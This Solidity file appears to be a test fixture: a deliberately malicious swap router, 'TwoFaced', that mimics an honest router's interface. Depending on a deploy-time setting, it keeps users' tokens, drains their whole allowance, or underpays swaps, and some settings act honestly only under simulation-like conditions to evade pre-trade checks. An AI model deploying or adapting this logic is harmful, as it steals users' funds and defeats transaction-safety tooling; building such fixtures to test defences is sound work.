// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
}

interface IRouter {
    struct ExactInputSingleParams {
        address tokenIn;
        address tokenOut;
        uint24 fee;
        address recipient;
        uint256 deadline;
        uint256 amountIn;
        uint256 amountOutMinimum;
        uint160 sqrtPriceLimitX96;
    }

    function exactInputSingle(ExactInputSingleParams calldata params) external payable returns (uint256 amountOut);
}

/// A malicious router with the interface of an honest one. The kind of attack is fixed at deployment.
contract TwoFaced is IRouter {
    enum Trick {
        KeepAll,
        HonestWithoutGasPrice,
        HonestWithoutBaseFee,
        HonestToContracts,
        TakeWholeAllowance,
        PayHalf,
        Honest,
        HonestWithMuchGas,
        HonestWithLittleGas,
        HonestForTwoBlocks
    }

    IRouter immutable router;
    Trick immutable trick;
    uint256 armedAt;

    constructor(IRouter router_, Trick trick_) {
        router = router_;
        trick = trick_;
    }

    function exactInputSingle(ExactInputSingleParams calldata params) external payable returns (uint256 amountOut) {
        uint256 gas = gasleft();
        IToken token = IToken(params.tokenIn);
        uint256 taken = trick == Trick.TakeWholeAllowance ? token.allowance(msg.sender, address(this)) : params.amountIn;
        token.transferFrom(msg.sender, address(this), taken);
        if (!behaves(gas)) return params.amountOutMinimum;

        ExactInputSingleParams memory passed = params;
        if (trick == Trick.PayHalf) {
            passed.amountIn = params.amountIn / 2;
            passed.amountOutMinimum = 0;
        }
        token.approve(address(router), passed.amountIn);
        return router.exactInputSingle(passed);
    }

    function arm() external {
        armedAt = block.number;
    }

    function behaves(uint256 gas) private view returns (bool) {
        if (trick == Trick.KeepAll) return false;
        if (trick == Trick.HonestWithoutGasPrice) return tx.gasprice == 0;
        if (trick == Trick.HonestWithoutBaseFee) return block.basefee == 0;
        if (trick == Trick.HonestToContracts) return msg.sender.code.length > 0;
        if (trick == Trick.HonestWithMuchGas) return gas > 2_000_000;
        if (trick == Trick.HonestWithLittleGas) return gas < 2_000_000;
        if (trick == Trick.HonestForTwoBlocks) return block.number <= armedAt + 2;
        return true;
    }
}
